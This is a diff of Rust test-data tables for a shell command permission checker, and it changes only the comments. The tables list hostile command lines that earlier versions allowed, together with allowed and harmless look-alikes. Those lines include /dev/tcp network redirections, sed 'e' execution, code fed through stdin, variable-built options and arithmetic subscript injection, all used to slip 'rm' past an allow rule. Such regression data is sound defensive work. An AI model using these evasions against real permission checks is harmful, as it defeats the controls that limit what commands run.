@@ -1,20 +1,21 @@
-//! Hostile lines that once slipped through: data. The tables of `lines.rs` go on here.
+//! Test data: hostile command lines that earlier versions allowed. Continues the tables in
+//! `lines.rs`.
 
-/// Where it is plain that `rm` runs.
+/// Command lines that recognizably run `rm`.
 pub const DENIED: &[&str] =
     &["eval -- rm x", "nohup nohup env bash -c 'rm x'", "nohup bash -c \"git status; nice bash -c 'rm x'\"", "eatmydata rm x"];
 
-/// Where something may be hidden.
+/// Command lines that may hide a denied command.
 pub const ASKED: &[&str] = &[
     "$\"r\"\\m x",
     "nice '' rm x",
     "nice é rm x",
-    // Connections that the shell makes.
+    // Network connections through shell redirections.
     "git status < /dev/tcp/$h/7788 >&0",
     "git status < \"/dev/udp/$h/7788\"",
     "git status < /dev/$x",
     "git status > /dev/tcp/$h/7788",
-    // Code behind the code.
+    // sed and awk: script options after the first operand, and other ways to run code.
     "sed p -e '1e rm x' a",
     "sed s/x/y/ a -e '1e rm x'",
     "sed -n p --expression='1e rm x' a",
@@ -34,7 +35,7 @@ pub const ASKED: &[&str] = &[
     "git send-pack --rec='rm x;' .",
     "git remote-ext x 'rm x'",
     "git hook run post-commit",
-    // Code that comes in by a pipe, by whatever name.
+    // Code from standard input, under different paths.
     "source //dev/stdin <<< 'rm x'",
     "bash //dev/stdin <<< 'rm x'",
     "env bash //dev/fd/0 <<< 'rm x'",
@@ -44,7 +45,7 @@ pub const ASKED: &[&str] = &[
     "cd /dev && bash stdin < a",
     "pushd /dev; python3 stdin < a",
     "bash /dev/./fd/0",
-    // Interpreters' options.
+    // Interpreter options.
     "python3 -W ignore -c 'import os'",
     "python3 -X dev -c 'import os'",
     "perl -I . -e 'unlink \"x\"'",
@@ -54,7 +55,7 @@ pub const ASKED: &[&str] = &[
     "python3 -m pdb a",
     "python3 -m cProfile -m timeit x",
     "python3 -m runpy a",
-    // Half of an option.
+    // Options that are abbreviated, combined, or built from variables.
     "x=ec; find . -name v -ex$x rm {} \\;",
     "x=c; find . -name v -exe$x rm {} \\;",
     "x=compress-program=rm; sort --$x a",
@@ -74,7 +75,7 @@ pub const ASKED: &[&str] = &[
     "cargo --conf=x rm",
     "zip -q a.zip s -TT 'rm x;'",
     "fd -Hx rm",
-    // What is reckoned.
+    // Arithmetic evaluation of subscripts in variable names.
     "x=a; x+='[$'; x+='(rm v)]'; test -v \"$x\"",
     "x='$'; y=\"a[$x(rm v)]\"; test -v \"$y\"",
     "read \"$x\"",
@@ -82,7 +83,7 @@ pub const ASKED: &[&str] = &[
     "printf -v \"$x\" a",
     "unset \"$x\"",
     "wait -p \"$x\"",
-    // Programs that run others.
+    // Programs that run other programs.
     "choom -n 5 rm x",
     "jobs -x rm x",
     "ssh-agent rm x",
@@ -116,7 +117,7 @@ pub const ASKED: &[&str] = &[
     "ZIPOPT='-T -TT rm' zip a b",
 ];
 
-/// What has to go on being allowed, as these are all that is asked for.
+/// Command lines that the rule `allow git status *` must allow.
 pub const ALLOWED: &[&str] = &[
     "git status < /dev/null",
     "git status < a",
@@ -124,7 +125,7 @@ pub const ALLOWED: &[&str] = &[
     "nice -n 5 bash -c 'git status; git status -s'",
 ];
 
-/// What looks like hostile and is not.
+/// Harmless command lines that resemble hostile ones.
 pub const HARMLESS: &[&str] = &[
     "cat < $f",
     "wc -l < \"$f\"",
